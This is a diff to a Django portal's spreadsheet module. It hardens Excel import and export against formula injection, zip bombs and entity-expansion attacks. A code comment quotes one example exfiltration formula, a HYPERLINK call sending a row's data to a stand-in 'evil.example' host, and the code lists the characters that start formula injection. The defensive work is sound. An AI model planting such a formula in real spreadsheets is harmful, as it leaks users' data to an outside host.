@@ -13,10 +13,11 @@ import io
 import re
 import secrets
 from collections.abc import Iterable, Sequence
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from datetime import date, datetime
 from decimal import Decimal
 from typing import IO, Any, ClassVar
+from xml.parsers import expat
 
 from django import forms
 from django.contrib import messages
@@ -26,12 +27,14 @@ from django.utils.crypto import constant_time_compare
 from django.utils.translation import gettext as _
 from django.utils.translation import gettext_lazy
 from openpyxl import Workbook, load_workbook
-from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell import Cell, WriteOnlyCell
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from .text import nfc
+from .uploads import MB, ArchiveLimits, ArchiveRefused, check_archive
 
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 EXCEL_DATE_FORMAT = "DD/MM/YYYY"
@@ -90,17 +93,32 @@ class SheetRow:
 
     number: int
     values: dict[str, str]
+    # The fields whose cell holds a formula, and that cell ("C5"): the value is the formula's text, and
+    # the row cannot be imported (``formula_errors``). The reader never trusts a formula's cached result.
+    formulas: dict[str, str] = field(default_factory=dict)
 
     def get(self, name: str) -> str:
         return self.values.get(name, "")
 
+    def formula_errors(self) -> dict[str, str]:
+        """Each field whose cell holds a formula, with the error to show on the row."""
+        return {
+            name: _("Cell %(cell)s holds a formula; enter its value instead.") % {"cell": cell}
+            for name, cell in self.formulas.items()
+        }
+
     def as_json(self) -> dict[str, Any]:
-        return {"number": self.number, "values": dict(self.values)}
+        return {"number": self.number, "values": dict(self.values), "formulas": dict(self.formulas)}
 
     @classmethod
     def from_json(cls, data: dict[str, Any]) -> SheetRow:
         values = data.get("values") or {}
-        return cls(number=int(data["number"]), values={name: str(values.get(name) or "") for name in cls.field_names})
+        formulas = data.get("formulas") or {}
+        return cls(
+            number=int(data["number"]),
+            values={name: str(values.get(name) or "") for name in cls.field_names},
+            formulas={name: str(formulas[name]) for name in cls.field_names if name in formulas},
+        )
 
 
 class SheetError(Exception):
@@ -157,15 +175,18 @@ class SheetFormat:
 
 
 def _read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
-    workbook = load_workbook(source, read_only=True, data_only=True)
+    # Formulas are read as formulas (not data_only): a cached result may be missing (a file written by a
+    # program) or differ from what the formula says, so a formula cell is an error on its row, never a value.
+    workbook = load_workbook(source, read_only=True, data_only=False)
     try:
         sheet = workbook[spec.sheet_name] if spec.sheet_name in workbook.sheetnames else workbook.worksheets[0]
         positions: dict[str, int] | None = None
         missing = [column for column in spec.columns if column.required]
         rows: list[SheetRow] = []
-        for number, values in enumerate(sheet.iter_rows(values_only=True), start=1):
+        for number, row in enumerate(sheet.iter_rows(), start=1):
             if number > spec.max_scanned_rows or len(rows) > spec.max_rows:
                 raise TooManyRows
+            values = [_cell_value(cell) for cell in row]
             if positions is None:
                 if number > spec.header_rows:
                     raise MissingHeadings(missing)
@@ -175,7 +196,12 @@ def _read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
             texts = {name: cell_text(values[i]) if i < len(values) else "" for name, i in positions.items()}
             if any(texts.values()):
                 kept = {name: texts.get(name, "") for name in spec.row_type.field_names}
-                rows.append(spec.row_type(number=number, values=kept))
+                formulas = {
+                    name: f"{get_column_letter(i + 1)}{number}"
+                    for name, i in positions.items()
+                    if name in kept and i < len(row) and getattr(row[i], "data_type", None) == "f"
+                }
+                rows.append(spec.row_type(number=number, values=kept, formulas=formulas))
     finally:
         workbook.close()
     if positions is None:
@@ -185,8 +211,105 @@ def _read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
     return rows
 
 
+def _cell_value(cell: Any) -> Any:
+    """A read cell's value; a formula's text (an array formula's too) rather than its cached result."""
+    value = getattr(cell, "value", None)
+    if getattr(cell, "data_type", None) == "f" and not isinstance(value, str):
+        return getattr(value, "text", "") or ""
+    return value
+
+
+# What an uploaded workbook may hold, checked before openpyxl reads it (``check_workbook``). The
+# worksheets are streamed by the reader, so they may be larger than the parts it reads whole (the
+# shared strings, the styles...), which a few megabytes hold in any real workbook.
+WORKBOOK_LIMITS = ArchiveLimits(max_entries=1000, max_total_bytes=64 * MB, max_entry_bytes=32 * MB)
+MAX_WHOLE_PART_BYTES = 8 * MB
+MAX_SHARED_STRINGS = 200_000
+# ``count`` is the number of cells that use a shared string (a string used twice counts twice).
+MAX_SHARED_STRING_USES = 2_000_000
+SHARED_STRINGS = "xl/sharedStrings.xml"
+
+
+class WorkbookRefused(UnreadableWorkbook):
+    """A workbook past a limit of ``WORKBOOK_LIMITS`` (a zip bomb, or a file no real import needs)."""
+
+    def __init__(self, message: str) -> None:
+        super().__init__(message)
+        self._message = message
+
+    @property
+    def message(self) -> str:
+        return self._message
+
+
+class _SharedStringCounter:
+    """Counts the shared strings as the part streams by, and reads its declared counts; never builds a tree."""
+
+    def __init__(self) -> None:
+        self.count = 0
+        self.parser = expat.ParserCreate(namespace_separator=" ")
+        self.parser.StartElementHandler = self._start
+        # A workbook has no DTD: entities (a "billion laughs") are refused outright.
+        self.parser.StartDoctypeDeclHandler = self._refuse_doctype
+
+    def _too_many(self) -> WorkbookRefused:
+        return WorkbookRefused(
+            _("The workbook holds more than %(count)s different texts; split it into several files.")
+            % {"count": f"{MAX_SHARED_STRINGS:,}".replace(",", ".")}
+        )
+
+    def _start(self, name: str, attributes: dict[str, str]) -> None:
+        local = name.rsplit(" ", 1)[-1]
+        if local == "si":
+            self.count += 1
+            if self.count > MAX_SHARED_STRINGS:
+                raise self._too_many()
+        elif local == "sst" and (
+            _int(attributes.get("uniqueCount")) > MAX_SHARED_STRINGS
+            or _int(attributes.get("count")) > MAX_SHARED_STRING_USES
+        ):
+            raise self._too_many()
+
+    def _refuse_doctype(self, *_args: Any) -> None:
+        raise UnreadableWorkbook
+
+    def feed(self, chunk: bytes) -> None:
+        self.parser.Parse(chunk, False)
+
+    def close(self) -> None:
+        self.parser.Parse(b"", True)
+
+
+def _int(text: str | None) -> int:
+    try:
+        return int(text or 0)
+    except ValueError:
+        return 0
+
+
+def _part_limit(name: str) -> int:
+    return WORKBOOK_LIMITS.max_entry_bytes if name.startswith("xl/worksheets/") else MAX_WHOLE_PART_BYTES
+
+
+def check_workbook(source: IO[bytes]) -> None:
+    """Refuses (``WorkbookRefused``, ``UnreadableWorkbook``) a workbook that would cost the reader unbounded time or
+    memory, reading it as a stream with byte caps and the shared strings counted; ``source`` is left at its start."""
+    try:
+        check_archive(
+            source, WORKBOOK_LIMITS, entry_limit=_part_limit, inspectors={SHARED_STRINGS: _SharedStringCounter}
+        )
+    except SheetError:
+        raise
+    except ArchiveRefused as error:
+        raise WorkbookRefused(error.message) from error
+    except Exception as error:  # not a zip archive, a damaged one, an encrypted one, bad XML...
+        raise UnreadableWorkbook from error
+
+
 def read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
-    """The non-empty rows under the heading row of an uploaded workbook; raises a ``SheetError``."""
+    """The non-empty rows under the heading row of an uploaded workbook, once ``check_workbook`` let it
+    through; raises a ``SheetError``."""
+    check_workbook(source)
     try:
         return _read_rows(source, spec)
     except SheetError:
@@ -300,12 +423,70 @@ TITLE = Font(bold=True, size=14)
 WRAP = Alignment(wrap_text=True, vertical="top")
 
 
+# openpyxl makes a formula of any string that begins with "=", and Excel runs a formula when the file
+# opens (=HYPERLINK("http://evil.example/?leak="&B2,...) sends the row elsewhere). So every workbook
+# the portal writes comes from ``new_workbook``, and ``workbook_bytes`` sees that every string is stored
+# as a text cell. A text that begins like a formula (OWASP's list: = + - @, tab, carriage return) also
+# gets Excel's quote prefix (the hidden apostrophe), so that editing the cell later does not bring it
+# to life either. What Excel or LibreOffice shows is the text unchanged; numbers and dates keep their type.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text(cell: Cell) -> Cell:
+    """The cell, a string in it stored as text, never as a formula."""
+    if isinstance(cell.value, str):
+        cell.data_type = "s"
+        if cell.value.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True
+    return cell
+
+
+class _TextSafeWriteOnlySheet(WriteOnlyWorksheet):
+    """A write-only sheet that stores every string of a row as text (it writes each row at once, so
+    nothing can be mended later)."""
+
+    def append(self, row: Iterable[Any]) -> None:
+        super().append([_text_safe(self, value) for value in row])
+
+
+def _text_safe(sheet: WriteOnlyWorksheet, value: Any) -> Any:
+    if isinstance(value, Cell):
+        return as_text(value)
+    if isinstance(value, str):
+        return as_text(WriteOnlyCell(sheet, value=value))
+    return value
+
+
+class PortalWorkbook(Workbook):
+    """A workbook whose write-only sheets store text as text; see ``new_workbook``."""
+
+    def create_sheet(self, title: str | None = None, index: int | None = None):
+        if not self.write_only:
+            return super().create_sheet(title, index)
+        sheet = _TextSafeWriteOnlySheet(parent=self, title=title)
+        self._add_sheet(sheet=sheet, index=index)
+        return sheet
+
+
+def new_workbook(*, write_only: bool = False) -> PortalWorkbook:
+    """Every workbook the portal writes starts here (``workbook_bytes`` refuses one that did not)."""
+    return PortalWorkbook(write_only=write_only)
+
+
 def set_properties(workbook: Workbook, title: str) -> None:
     workbook.properties.title = title
     workbook.properties.creator = _("Justice sector emulation")
 
 
 def workbook_bytes(workbook: Workbook) -> bytes:
+    """The saved workbook, every string in it stored as text (a formula nowhere)."""
+    if not isinstance(workbook, PortalWorkbook):
+        raise TypeError("Workbooks are made by core.xlsx.new_workbook, which keeps text from becoming formulas.")
+    if not workbook.write_only:
+        for sheet in workbook.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    as_text(cell)
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
